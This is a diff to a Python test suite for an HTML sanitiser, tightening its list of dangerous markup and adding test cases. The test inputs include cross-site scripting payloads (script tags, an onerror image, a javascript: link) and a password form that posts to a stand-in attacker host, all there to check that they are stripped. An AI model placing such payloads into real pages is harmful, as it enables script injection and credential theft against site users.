@@ -16,7 +16,7 @@ FRAGMENTS = """
 <blockquote>|</blockquote>|<ruby>|<rt>|<object>|<select>|<option>|<form>|<iframe>|<noscript>|</p|<a href="<h1>">|\x85
 """
 PIECES = st.lists(st.sampled_from(FRAGMENTS.strip().replace("\n", "|").split("|")), max_size=25).map("".join)
-DANGER = ("<script", "<img", "<iframe", "<svg", "<math", "<style", "onerror", "javascript:")
+DANGER = ("<script", "<img", "<iframe", "<svg", "<math", "<style", "<form", "<input", "onerror", "javascript:")
 
 
 @pytest.mark.parametrize(
@@ -24,6 +24,7 @@ DANGER = ("<script", "<img", "<iframe", "<svg", "<math", "<style", "onerror", "j
     [
         ("<p>a<br>b</p>", "<p>a<br>b</p>"),
         ("plain & simple", "plain &amp; simple"),
+        ('<form action="https://evil.example"><input name=password>x<button>y</button></form>', "xy"),  # SC-106
         ("<script>alert(1)</script>hi<img src=x onerror=alert(1)>", "hi"),
         ('<a href="javascript:alert(1)">x</a>', '<a target="_blank" rel="nofollow noopener">x</a>'),
         ('<a href="/relative">x</a>', '<a target="_blank" rel="nofollow noopener">x</a>'),
@@ -81,16 +82,17 @@ def test_any_html_becomes_safe_and_stays(html: str) -> None:
     ],
 )
 def test_hostile_html_is_bounded(html: str) -> None:
-    began = time.perf_counter()
+    began = time.thread_time()
     safe = text.sanitise(html)
     text.plain(html)
-    assert time.perf_counter() - began < 3
+    assert time.thread_time() - began < 3
     assert len(safe) <= 100_000
     assert text.sanitise(safe) == safe
     assert safe.count("<blockquote>") <= 32
 
 
 def test_a_cleaner_that_breaks_leaves_escaped_text(monkeypatch: pytest.MonkeyPatch) -> None:
+    """SC-088."""
 
     class Broken:
         def clean(self, html: str) -> str:
